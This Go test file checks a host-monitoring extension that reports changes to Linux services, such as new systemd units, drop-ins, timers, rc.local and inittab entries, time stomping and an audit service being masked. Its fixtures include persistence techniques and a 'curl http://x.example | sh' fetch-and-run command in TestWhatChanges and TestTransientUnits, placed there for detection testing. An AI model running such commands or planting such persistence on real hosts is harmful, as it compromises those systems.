package watch

import (
	"context"
	"crypto/md5" //nolint:gosec // as dpkg does
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/osquery-rollcall/rollcall/extension/evidence"
	"github.com/osquery-rollcall/rollcall/extension/service/inventory"
)

// host is a tree of files that stands for a host, and a source that watches it.
type host struct {
	t      testing.TB
	root   string
	src    *Source
	cursor string
}

func newHost(t testing.TB, o Options) *host {
	t.Helper()
	if runtime.GOOS == "windows" {
		t.Skip("NOT TESTED: services of a Linux host, on Windows")
	}
	h := &host{t: t, root: t.TempDir()}
	tree := map[string]string{
		"etc/passwd":          fmt.Sprintf("root:x:0:0::/root:/bin/sh\nana:x:%d:1000::/home/ana:/bin/sh\n", max(os.Getuid(), 1000)),
		"usr/sbin/web":        "binary",
		"bin/sh":              "shell",
		"home/ana/.keep":      "",
		"dev/shm/.keep":       "",
		"var/lib/dpkg/status": "Package: web\nStatus: install ok installed\nVersion: 1\n",
	}
	list, sums := "/usr/sbin/web\n", fmt.Sprintf("%x  usr/sbin/web\n", md5.Sum([]byte("binary"))) //nolint:gosec // as dpkg does
	for i := range 10 {
		name := fmt.Sprintf("usr/lib/systemd/system/base%d.service", i)
		text := fmt.Sprintf("[Unit]\nDescription=base %d\n[Service]\nExecStart=/usr/sbin/web -n %d\n[Install]\nWantedBy=multi-user.target\n", i, i)
		tree[name] = text
		list += "/" + name + "\n"
		sums += fmt.Sprintf("%x  %s\n", md5.Sum([]byte(text)), name) //nolint:gosec // as dpkg does
	}
	list += "/usr/lib/systemd/system/t@.service\n"
	tree["usr/lib/systemd/system/t@.service"] = "[Service]\nExecStart=/usr/sbin/web %i\n[Install]\nWantedBy=multi-user.target\n"
	tree["var/lib/dpkg/info/web.list"], tree["var/lib/dpkg/info/web.md5sums"] = list, sums
	h.plant(tree)
	o.Inventory = inventory.New(h.root, trust())
	h.src = New(o)
	h.src.settle = 0 // the database was written just now
	t.Cleanup(func() { _ = h.src.Close() })
	return h
}

func trust() inventory.Options {
	if uid := os.Getuid(); uid > 0 {
		return inventory.Options{Trust: []uint32{uint32(uid)}}
	}
	return inventory.Options{}
}

func (h *host) path(name string) string { return filepath.Join(h.root, name) }

// plant makes files: "-> x" is a link to x.
func (h *host) plant(tree map[string]string) {
	h.t.Helper()
	for name, text := range tree {
		p := h.path(name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			h.t.Fatal(err)
		}
		var err error
		if to, ok := strings.CutPrefix(text, "-> "); ok {
			err = os.Symlink(to, p)
		} else {
			err = os.WriteFile(p, []byte(text), 0o755)
		}
		if err != nil {
			h.t.Fatal(err)
		}
	}
}

func (h *host) remove(names ...string) {
	h.t.Helper()
	for _, name := range names {
		if err := os.RemoveAll(h.path(name)); err != nil {
			h.t.Fatal(err)
		}
	}
}

func (h *host) read() evidence.Batch {
	h.t.Helper()
	b, err := h.src.Read(context.Background(), h.cursor, 1000)
	if err != nil {
		h.t.Fatal(err)
	}
	h.cursor = b.Cursor
	return b
}

// learn reads until a host without changes is known.
func (h *host) learn() {
	h.t.Helper()
	if b := h.read(); len(b.Installs) != 0 {
		h.t.Fatalf("a new host tells of %+v", b.Installs)
	}
}

// rows reads and writes each row in a line.
func (h *host) rows() string {
	h.t.Helper()
	b := h.read()
	var all []string
	for _, in := range b.Installs {
		all = append(all, fmt.Sprintf("%s %s %s %s [%s] %s", in.Action, in.Kind, in.Name, in.TimeBasis, in.ImagePath, strings.Join(in.Changes, "; ")))
		if in.Source != SourceName || in.EID == "" || in.Platform != evidence.Linux || in.Time < time.Now().Add(-time.Hour).Unix() || in.Time > time.Now().Add(time.Minute).Unix() {
			h.t.Errorf("%+v", in)
		}
	}
	slices.Sort(all)
	return strings.Join(all, "\n")
}

func (h *host) expect(what, want string) {
	h.t.Helper()
	got := h.rows()
	if runtime.GOOS != "linux" { // no birth times, no links' times
		got = strings.NewReplacer("birth_time", "change_time").Replace(got)
		want = strings.NewReplacer("birth_time", "change_time").Replace(want)
	}
	if d := cmp.Diff(want, got); d != "" {
		h.t.Errorf("%s (-want +got):\n%s", what, d)
	}
	time.Sleep(2 * tick)
	if again := h.read(); len(again.Installs) != 0 {
		h.t.Errorf("%s: told twice: %+v", what, again.Installs)
	}
}

const evil = "[Service]\nExecStart=/usr/sbin/web -d\n[Install]\nWantedBy=multi-user.target\n"

func TestWhatChanges(t *testing.T) {
	h := newHost(t, Options{})
	h.learn()

	h.plant(map[string]string{"etc/systemd/system/x.service": evil})
	h.expect("created", "created systemd x.service birth_time [/usr/sbin/web -d] ")

	h.plant(map[string]string{"etc/systemd/system/multi-user.target.wants/x.service": "-> /etc/systemd/system/x.service"})
	h.expect("enabled", "enabled systemd x.service birth_time [/usr/sbin/web -d] start_type: disabled -> enabled; links: none -> /etc/systemd/system/multi-user.target.wants/x.service")

	h.plant(map[string]string{"etc/systemd/system/x.service": strings.Replace(evil, "web -d", "web -e\nUser=ana\nExecStartPre=-/bin/sh -c 'curl http://x.example/a | sh'", 1)})
	h.expect("modified", "modified systemd x.service change_time [/bin/sh -c curl http://x.example/a | sh] "+
		"ExecStart: /usr/sbin/web -d -> /usr/sbin/web -e; ExecStartPre: none -> -/bin/sh -c 'curl http://x.example/a | sh'; account: root -> ana")

	h.plant(map[string]string{"etc/systemd/system/x.service.d/a.conf": "[Service]\nEnvironment=LD_PRELOAD=/opt/a.so\n"})
	h.expect("drop-in", "modified systemd x.service birth_time [/bin/sh -c curl http://x.example/a | sh] drop_ins: none -> /etc/systemd/system/x.service.d/a.conf; preload: none -> LD_PRELOAD=/opt/a.so")

	h.plant(map[string]string{"etc/systemd/system/x.service.d/a.conf": "[Service]\nEnvironment=LD_PRELOAD=/opt/a.so\nNice=5\n"})
	h.expect("what is not understood", "modified systemd x.service change_time [/bin/sh -c curl http://x.example/a | sh] contents: changed")

	h.remove("etc/systemd/system/multi-user.target.wants/x.service")
	h.expect("disabled", "disabled systemd x.service change_time [/bin/sh -c curl http://x.example/a | sh] start_type: enabled -> disabled; links: /etc/systemd/system/multi-user.target.wants/x.service -> none")

	h.remove("etc/systemd/system/x.service", "etc/systemd/system/x.service.d")
	h.expect("removed", "removed systemd x.service change_time [/bin/sh -c curl http://x.example/a | sh] ExecStart: /usr/sbin/web -e -> none; ExecStartPre: -/bin/sh -c 'curl http://x.example/a | sh' -> none")

	h.plant(map[string]string{"etc/systemd/system/base1.service": "-> /dev/null"})
	h.expect("masked", "disabled systemd base1.service birth_time [/usr/sbin/web -n 1] ExecStart: /usr/sbin/web -n 1 -> none; unit_path: /usr/lib/systemd/system/base1.service -> /etc/systemd/system/base1.service; link_target: none -> /dev/null; start_type: disabled -> masked")
	h.remove("etc/systemd/system/base1.service")
	h.expect("unmasked", "modified systemd base1.service first_seen [/usr/sbin/web -n 1] ExecStart: none -> /usr/sbin/web -n 1; unit_path: /etc/systemd/system/base1.service -> /usr/lib/systemd/system/base1.service; link_target: /dev/null -> none; start_type: masked -> disabled")

	h.plant(map[string]string{"etc/systemd/system/base2.service": evil})
	h.expect("taken over", "modified systemd base2.service birth_time [/usr/sbin/web -d] ExecStart: /usr/sbin/web -n 2 -> /usr/sbin/web -d; unit_path: /usr/lib/systemd/system/base2.service -> /etc/systemd/system/base2.service")

	h.plant(map[string]string{"etc/systemd/system/multi-user.target.wants/t@evil.service": "-> /usr/lib/systemd/system/t@.service"})
	h.expect("instance", "enabled systemd t@evil.service birth_time [/usr/sbin/web evil] links: none -> /etc/systemd/system/multi-user.target.wants/t@evil.service")
	h.remove("etc/systemd/system/multi-user.target.wants/t@evil.service")
	h.expect("no instance", "disabled systemd t@evil.service change_time [/usr/sbin/web evil] ExecStart: /usr/sbin/web %i -> none")

	h.plant(map[string]string{
		"etc/systemd/system/tick.timer":   "[Timer]\nOnCalendar=hourly\n",
		"etc/systemd/system/tick.service": "[Service]\nType=oneshot\nExecStart=/dev/shm/.tick\n",
	})
	h.expect("timer", "created systemd tick.service birth_time [/dev/shm/.tick] \ncreated systemd tick.timer birth_time [/dev/shm/.tick] waits: none -> OnCalendar=hourly; triggers: none -> tick.service")
	h.plant(map[string]string{"dev/shm/.tick": "x"})
	h.expect("its program comes", "modified systemd tick.service birth_time [/dev/shm/.tick] on_disk: no -> yes")
	h.remove("dev/shm/.tick")
	h.expect("its program goes", "modified systemd tick.service change_time [/dev/shm/.tick] on_disk: yes -> no")

	h.plant(map[string]string{"etc/init.d/old": "#!/bin/sh\nDAEMON=/usr/sbin/web\n"})
	h.expect("script", "created sysv old birth_time [/usr/sbin/web] ")
	h.plant(map[string]string{"etc/rc2.d/S01old": "-> ../init.d/old"})
	h.expect("script turned on", "enabled sysv old birth_time [/usr/sbin/web] start_type: none -> 2; links: none -> /etc/rc2.d/S01old")
	h.plant(map[string]string{"etc/rc.local": "#!/bin/sh\nexit 0\n"})
	h.expect("rc.local", "created sysv rc.local birth_time [] ")
	h.plant(map[string]string{"etc/rc.local": "#!/bin/sh\n/dev/shm/.y &\nexit 0\n"})
	h.expect("rc.local changed", "modified sysv rc.local change_time [/dev/shm/.y] script: none -> /dev/shm/.y")

	h.plant(map[string]string{"etc/systemd/system-generators/g": "#!/bin/sh\n"})
	h.expect("generator", "created systemd g birth_time [/etc/systemd/system-generators/g] ")

	h.plant(map[string]string{"home/ana/.config/systemd/user/u.service": evil})
	h.expect("user unit", "created systemd u.service birth_time [/usr/sbin/web -d] ")

	h.plant(map[string]string{"etc/inittab": "a:2:respawn:/usr/sbin/web -i\na:3:respawn:/dev/shm/.z\n"})
	h.expect("inittab", "created sysv a birth_time [/dev/shm/.z] \ncreated sysv a birth_time [/usr/sbin/web -i] ")
}

func TestFieldsOfARow(t *testing.T) {
	h := newHost(t, Options{})
	h.learn()
	h.plant(map[string]string{
		"opt/agent/agent":                                         "program",
		"etc/systemd/system/full.service":                         "[Unit]\nDescription=an agent\n[Service]\nExecStart=/opt/agent/agent --token abc \"a b\"\nUser=www\n[Install]\nWantedBy=multi-user.target\n",
		"etc/systemd/system/multi-user.target.wants/full.service": "-> ../full.service",
		"home/ana/.config/systemd/user/own.service":               evil,
		"etc/sv/r/run":                                            "#!/bin/sh\nexec /usr/sbin/web -r\n",
	})
	got := map[string]evidence.Install{}
	for _, in := range h.read().Installs {
		got[in.Name] = in
	}
	in := got["full.service"]
	want := evidence.Install{
		Time: in.Time, TimeBasis: in.TimeBasis, Platform: evidence.Linux, Action: evidence.Created, Kind: "systemd", Name: "full.service", DisplayName: "an agent",
		ImagePath: "/opt/agent/agent --token abc a b", Path: "/opt/agent/agent", Args: "--token abc a b", ServiceType: "service", StartType: "enabled", Account: "www",
		UnitPath: "/etc/systemd/system/full.service", OnDisk: evidence.Yes, WritableByOthers: evidence.No, Packaged: evidence.No,
		SHA256: sum("program"), Source: SourceName, EID: in.EID,
	}
	if d := cmp.Diff(want, in); d != "" {
		t.Errorf("(-want +got):\n%s", d)
	}
	if in := got["own.service"]; in.ServiceType != "user service" || in.Account != "ana" || in.Packaged != evidence.Yes {
		t.Errorf("%+v", in)
	}
	if in := got["r"]; in.Kind != "sysv" || in.ServiceType != "runit" || in.ImagePath != "/usr/sbin/web -r" {
		t.Errorf("%+v", in)
	}
	if strings.Contains(h.decoded(), "abc") {
		t.Error("a secret is remembered in clear text")
	}
}

func (h *host) decoded() string {
	s, err := decode(h.cursor)
	if err != nil {
		h.t.Fatal(err)
	}
	var b strings.Builder
	for k, r := range s.Records {
		fmt.Fprintf(&b, "%q %+v\n", k, *r)
	}
	return b.String()
}

// A package's services make rows that say so, and only once it says whose they are.
func TestPackageInstalls(t *testing.T) {
	h := newHost(t, Options{})
	h.learn()
	h.src.settle = 1500 * time.Millisecond
	text := "[Service]\nExecStart=/usr/sbin/web -x\n"
	lock := h.path("var/lib/pacman/db.lck")
	h.plant(map[string]string{"usr/lib/systemd/system/new.service": text, "var/lib/pacman/db.lck": ""})
	if got := h.rows(); runtime.GOOS == "linux" && got != "" {
		t.Errorf("before the package manager is done: %s", got)
	}
	if err := os.Remove(lock); err != nil {
		t.Fatal(err)
	}
	h.plant(map[string]string{
		"var/lib/dpkg/status":           "Package: web\nStatus: install ok installed\nVersion: 1\n\nPackage: new\nStatus: install ok installed\nVersion: 2\n",
		"var/lib/dpkg/info/new.list":    "/usr/lib/systemd/system/new.service\n",
		"var/lib/dpkg/info/new.md5sums": fmt.Sprintf("%x  usr/lib/systemd/system/new.service\n", md5.Sum([]byte(text))), //nolint:gosec // as dpkg does
	})
	h.wait("a row of the package", func(all []evidence.Install) bool {
		return len(all) == 1 && all[0].Package == "new" && all[0].PackageVerified == evidence.Yes && all[0].Action == evidence.Created
	})
	// A lock that stays holds nothing back for long.
	h.src.settle = 0
	now := time.Now()
	h.src.now = func() time.Time { return now }
	h.plant(map[string]string{"var/lib/pacman/db.lck": "", "etc/systemd/system/held.service": evil})
	for i := range 8 {
		all := h.read().Installs
		if runtime.GOOS == "linux" && (len(all) == 1) != (i == 6) {
			t.Errorf("after %d s: %+v", i*10, all)
		}
		now = now.Add(10 * time.Second)
	}
}

// wait reads until rows are as they should be.
func (h *host) wait(what string, ok func([]evidence.Install) bool) {
	h.t.Helper()
	var all []evidence.Install
	for until := time.Now().Add(time.Minute); time.Now().Before(until); time.Sleep(50 * time.Millisecond) {
		if all = append(all, h.read().Installs...); ok(all) {
			return
		}
	}
	h.t.Errorf("%s: not among %+v", what, all)
}

func TestPackageFileChanged(t *testing.T) {
	h := newHost(t, Options{FullEvery: time.Nanosecond})
	h.learn()
	h.wait("verified", func([]evidence.Install) bool { return strings.Contains(h.decoded(), " yes ") })
	h.plant(map[string]string{"usr/sbin/web": "other"})
	h.wait("a program that changed", func(all []evidence.Install) bool {
		return slices.ContainsFunc(all, func(in evidence.Install) bool {
			return in.Name == "base1.service" && in.Action == evidence.Modified && in.PackageVerified == evidence.No && slices.Contains(in.Changes, "package_verified: yes -> no") &&
				slices.ContainsFunc(in.Signs, func(x evidence.Sign) bool {
					return x.Factor == "package_modified" && strings.Contains(x.Evidence, "/usr/sbin/web")
				})
		})
	})
}

// recentFrom makes recent what came since then, however late it is read.
func (h *host) recentFrom(since time.Time) {
	now := time.Now()
	h.src.recent, h.src.now = now.Sub(since), func() time.Time { return now }
}

func TestFirstScan(t *testing.T) {
	young := func(n int) *host {
		h := newHost(t, Options{})
		time.Sleep(200 * time.Millisecond) // what is there becomes old
		since := time.Now()
		time.Sleep(2 * tick)
		tree := map[string]string{}
		for i := range n {
			tree[fmt.Sprintf("etc/systemd/system/young%d.service", i)] = evil
		}
		tree["usr/lib/systemd/system/base3.service"] = "x"
		tree["etc/systemd/system/base4.service.d/x.conf"] = "[Service]\nExecStartPre=/dev/shm/x\n"
		h.plant(tree)
		h.recentFrom(since)
		return h
	}
	h := young(2)
	b := h.read()
	var got []string
	for _, in := range b.Installs {
		got = append(got, in.Action+" "+in.Name+" "+strings.Join(in.Changes, ";"))
	}
	slices.Sort(got)
	if d := cmp.Diff([]string{
		"created young0.service ", "created young1.service ", "modified base4.service drop_ins: unknown -> /etc/systemd/system/base4.service.d/x.conf",
	}, got); d != "" {
		t.Errorf("(-want +got):\n%s", d)
	}
	if len(h.read().Installs) != 0 {
		t.Error("told twice")
	}

	h = newHost(t, Options{Recent: time.Minute})
	if b := h.read(); len(b.Installs) != 0 {
		t.Errorf("a host made just now tells of %d", len(b.Installs))
	}
	if h.src.FirstSeen(context.Background(), &inventory.Service{Kind: "systemd", Type: "service", Scope: "system", Name: "base1.service"}) == 0 {
		t.Error("first seen is not known")
	}
}

func TestFirstScanDoesNotFlood(t *testing.T) {
	h := newHost(t, Options{})
	tree := map[string]string{}
	for i := range 200 {
		tree[fmt.Sprintf("usr/lib/systemd/system/packaged%d.service", i)] = evil
	}
	h.plant(tree)
	time.Sleep(200 * time.Millisecond)
	since := time.Now()
	time.Sleep(2 * tick)
	tree = map[string]string{"etc/systemd/system/worst.service": "[Service]\nExecStart=/dev/shm/.x\n"}
	for i := range 100 {
		tree[fmt.Sprintf("etc/systemd/system/young%d.service", i)] = evil
	}
	h.plant(tree)
	h.recentFrom(since)
	b := h.read()
	if len(b.Installs) != maxFirst || len(b.Gaps) != 1 || !strings.Contains(b.Gaps[0].Reason, "101 services") {
		t.Errorf("%d rows, %+v", len(b.Installs), b.Gaps)
	}
	if !slices.ContainsFunc(b.Installs, func(in evidence.Install) bool { return in.Name == "worst.service" }) {
		t.Error("the one that matters is left out")
	}
}

func TestLimitAndSameCursorAgain(t *testing.T) {
	h := newHost(t, Options{})
	h.learn()
	tree := map[string]string{}
	for i := range 25 {
		tree[fmt.Sprintf("etc/systemd/system/n%02d.service", i)] = evil
	}
	h.plant(tree)
	names := map[string]string{}
	for reads := 0; ; reads++ {
		before := h.cursor
		b, err := h.src.Read(context.Background(), before, 10)
		if err != nil {
			t.Fatal(err)
		}
		again, err := h.src.Read(context.Background(), before, 10) // as after a commit that failed
		if err != nil {
			t.Fatal(err)
		}
		if d := cmp.Diff(b.Installs, again.Installs); d != "" {
			t.Errorf("read again, it differs:\n%s", d)
		}
		for _, in := range b.Installs {
			if names[in.EID] != "" {
				t.Errorf("%s has the id of %s", in.Name, names[in.EID])
			}
			names[in.EID] = in.Name
		}
		h.cursor = again.Cursor
		if !again.More {
			break
		}
		if len(b.Installs) != 10 || reads > 3 {
			t.Fatalf("%d rows in read %d", len(b.Installs), reads)
		}
	}
	if len(names) != 25 {
		t.Errorf("%d rows", len(names))
	}
	// Back and forth are changes of their own.
	ids := map[string]bool{}
	for range 4 {
		h.plant(map[string]string{"etc/systemd/system/multi-user.target.wants/n00.service": "-> ../n00.service"})
		for _, in := range h.read().Installs {
			ids[in.EID] = true
		}
		time.Sleep(time.Second)
		h.remove("etc/systemd/system/multi-user.target.wants/n00.service")
		for _, in := range h.read().Installs {
			ids[in.EID] = true
		}
		time.Sleep(time.Second)
	}
	if len(ids) != 8 {
		t.Errorf("%d ids of 8 changes", len(ids))
	}
}

func TestCursorOverRestart(t *testing.T) {
	h := newHost(t, Options{})
	h.learn()
	_ = h.src.Close()
	if _, err := h.src.Read(context.Background(), h.cursor, 10); err == nil {
		t.Error("a closed source reads")
	}
	h.plant(map[string]string{"etc/systemd/system/meanwhile.service": evil})
	h.src = New(Options{Inventory: inventory.New(h.root, trust())})
	h.src.settle = 0
	t.Cleanup(func() { _ = h.src.Close() })
	h.expect("while nobody watched", "created systemd meanwhile.service birth_time [/usr/sbin/web -d] ")

	damaged := h.cursor[:len(h.cursor)-8] + "AAAAAAAA"
	for _, cursor := range []string{damaged, "x", "services9:abc", cursorPrefix, cursorPrefix + "AAAAAA"} {
		h.cursor = cursor
		b := h.read()
		if len(b.Gaps) != 1 || !strings.Contains(b.Gaps[0].Reason, "learned anew") || b.Cursor == cursor || b.Cursor == "" {
			t.Errorf("%.20s: %+v", cursor, b.Gaps)
		}
	}
	h.plant(map[string]string{"etc/systemd/system/after.service": evil})
	h.expect("after a damaged cursor", "created systemd after.service birth_time [/usr/sbin/web -d] ")
}

// What systemd and its users make and drop all the time is told once.
func TestTransientUnits(t *testing.T) {
	h := newHost(t, Options{})
	var ahead time.Duration
	h.src.now = func() time.Time { return time.Now().Add(ahead) }
	h.learn()
	rows := 0
	for i := range 20 {
		name := fmt.Sprintf("run/systemd/transient/run-u%d.service", i)
		h.plant(map[string]string{name: "[Service]\nExecStart=\"/usr/sbin/web\" \"-t\"\n"})
		rows += len(h.read().Installs)
		h.remove(name)
		rows += len(h.read().Installs)
	}
	if rows != 2 {
		t.Errorf("%d rows of one command that ran 20 times", rows)
	}
	h.plant(map[string]string{"run/systemd/transient/run-u99.service": "[Service]\nExecStart=\"/bin/sh\" \"-c\" \"curl http://x.example | sh\"\n"})
	h.expect("another command", "created systemd run-u99.service birth_time [/bin/sh -c curl http://x.example | sh] ")
	ahead = 25 * time.Hour
	h.remove("run/systemd/transient/run-u99.service")
	h.plant(map[string]string{"run/systemd/transient/run-u100.service": "[Service]\nExecStart=\"/usr/sbin/web\" \"-t\"\n"})
	if got := h.rows(); !strings.Contains(got, "created systemd run-u100.service") || !strings.Contains(got, "removed systemd run-u99.service") {
		t.Errorf("a day later: %s", got)
	}
}

func TestWhatGoesByItself(t *testing.T) {
	h := newHost(t, Options{})
	h.plant(map[string]string{
		"home/ana/.config/systemd/user/u.service": evil,
		"run/systemd/generator/gen.service":       evil,
	})
	h.learn()
	if err := os.Rename(h.path("home/ana"), h.path("ana-away")); err != nil {
		t.Fatal(err)
	}
	h.expect("a home that is not mounted", "")
	if err := os.Rename(h.path("ana-away"), h.path("home/ana")); err != nil {
		t.Fatal(err)
	}
	h.expect("and is mounted again", "")
	h.remove("home/ana/.config/systemd/user/u.service")
	h.expect("a unit that is removed", "removed systemd u.service change_time [/usr/sbin/web -d] ExecStart: /usr/sbin/web -d -> none")

	now := time.Now()
	h.src.now = func() time.Time { return now }
	h.remove("run/systemd/generator/gen.service")
	h.expect("systemd reloads", "")
	h.plant(map[string]string{"run/systemd/generator/gen.service": evil})
	h.expect("and is done", "")
	h.remove("run/systemd/generator/gen.service")
	h.expect("reloads again", "")
	now = now.Add(10 * time.Second)
	if got := h.rows(); !strings.Contains(got, "removed systemd gen.service") {
		t.Errorf("gone for good: %q", got)
	}
}

func TestTimesThatWereSet(t *testing.T) {
	if runtime.GOOS != "linux" {
		t.Skip("NOT TESTED: birth times, on " + runtime.GOOS)
	}
	h := newHost(t, Options{})
	h.learn()
	past := time.Date(2019, 3, 1, 0, 0, 0, 0, time.UTC)
	stomp := func(name string, at time.Time) {
		t.Helper()
		if err := os.Chtimes(h.path(name), at, at); err != nil {
			t.Fatal(err)
		}
	}
	signs := func() string {
		var all []string
		for _, in := range h.read().Installs {
			if in.Time < time.Now().Add(-time.Minute).Unix() {
				t.Errorf("%s has the time %d", in.Name, in.Time)
			}
			for _, x := range in.Signs {
				all = append(all, in.Name+" "+x.Factor+" "+x.Evidence)
			}
		}
		slices.Sort(all)
		return strings.Join(all, "\n")
	}
	h.plant(map[string]string{"etc/systemd/system/old.service": evil, "etc/systemd/system/honest.service": evil, "usr/lib/systemd/system/base1.service": "x", "etc/systemd/system/late.service": evil})
	stomp("etc/systemd/system/old.service", past)
	stomp("etc/systemd/system/late.service", time.Now().Add(72*time.Hour))
	stomp("usr/lib/systemd/system/base1.service", past) // as packages do
	got := signs()
	if !strings.Contains(got, `old.service time_stomped "/etc/systemd/system/old.service" says it was changed last at 2019-03-01T00:00:00Z, but it was made at `) ||
		!strings.Contains(got, "late.service time_stomped") || strings.Contains(got, "honest.service") || strings.Contains(got, "base1.service time") {
		t.Error(got)
	}
	h.plant(map[string]string{"etc/systemd/system/honest.service": strings.Replace(evil, "-d", "-z", 1)})
	stomp("etc/systemd/system/honest.service", time.Now().Add(-10*time.Minute))
	if got := signs(); !strings.Contains(got, `honest.service time_stomped`) || !strings.Contains(got, "but its contents came after") {
		t.Error(got)
	}
}

func TestProtectionTurnedOff(t *testing.T) {
	h := newHost(t, Options{})
	h.plant(map[string]string{
		"usr/lib/systemd/system/auditd.service":                     "[Service]\nExecStart=/usr/sbin/web\n[Install]\nWantedBy=multi-user.target\n",
		"etc/systemd/system/multi-user.target.wants/auditd.service": "-> /usr/lib/systemd/system/auditd.service",
	})
	h.learn()
	h.plant(map[string]string{"etc/systemd/system/auditd.service": "-> /dev/null", "etc/systemd/system/base0.service": "-> /dev/null"})
	for _, in := range h.read().Installs {
		off := slices.ContainsFunc(in.Signs, func(x evidence.Sign) bool { return x.Factor == "defence_off" })
		if in.Action != evidence.Disabled || off != (in.Name == "auditd.service") {
			t.Errorf("%s %s %+v", in.Action, in.Name, in.Signs)
		}
	}
}

// What cannot be read is told once.
func TestGaps(t *testing.T) {
	h := newHost(t, Options{})
	h.learn()
	h.plant(map[string]string{"etc/systemd/system/dir.service/x": "x", "etc/systemd/system/multi-user.target.wants/nothing.service": "-> /x"})
	b := h.read()
	if len(b.Gaps) != 1 || !strings.Contains(b.Gaps[0].Reason, "dir.service") {
		t.Errorf("%+v", b.Gaps)
	}
	if b := h.read(); len(b.Gaps) != 0 {
		t.Errorf("told twice: %+v", b.Gaps)
	}
}

func TestElsewhere(t *testing.T) {
	if runtime.GOOS == "linux" {
		t.Skip("NOT TESTED: a host that is not Linux")
	}
	var off *evidence.Unavailable
	if _, err := New(Options{}).Read(context.Background(), "", 10); !errors.As(err, &off) || off.State != evidence.StateOff {
		t.Errorf("%v", err)
	}
}

func TestErrorsKeepTheCursor(t *testing.T) {
	h := newHost(t, Options{})
	h.learn()
	h.plant(map[string]string{"etc/systemd/system/x.service": evil})
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := h.src.Read(ctx, h.cursor, 10); !errors.Is(err, context.Canceled) {
		t.Errorf("%v", err)
	}
	h.expect("after it", "created systemd x.service birth_time [/usr/sbin/web -d] ")
}
